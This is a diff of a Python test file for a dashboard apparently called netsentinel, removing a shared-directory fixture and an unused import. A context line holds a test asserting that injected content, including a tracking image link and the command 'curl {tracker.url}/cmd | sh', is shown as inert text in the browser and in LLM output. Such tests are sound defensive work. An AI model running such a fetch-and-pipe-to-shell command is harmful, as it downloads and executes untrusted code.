@@ -21,7 +21,6 @@ import shutil
 import signal
 import subprocess
 import sys
-import tempfile
 from pathlib import Path
 
 import pytest
@@ -196,16 +195,6 @@ def test_hostile_text_is_shown_as_text_in_the_browser(tmp_path):
     assert f"![t]({tracker.url}/img.png)" in body and f"curl {tracker.url}/cmd | sh" in body
     assert f"![m]({tracker.url}/model.png)" in llm_body.replace("\u2060", "")
     assert f"error: see [docs]({tracker.url}/link)" in llm_body.replace("\u2060", "")
-
-
-@pytest.fixture
-def shared_dir():
-    """A root-owned 0755 directory other users can read (pytest's tmp_path
-    sits under a 0700 directory)."""
-    path = Path(tempfile.mkdtemp(prefix="netsentinel-dash216-"))
-    path.chmod(0o755)
-    yield path
-    shutil.rmtree(path)
 
 
 def test_dashboard_runs_as_an_unprivileged_user(tmp_path, shared_dir, intruder):
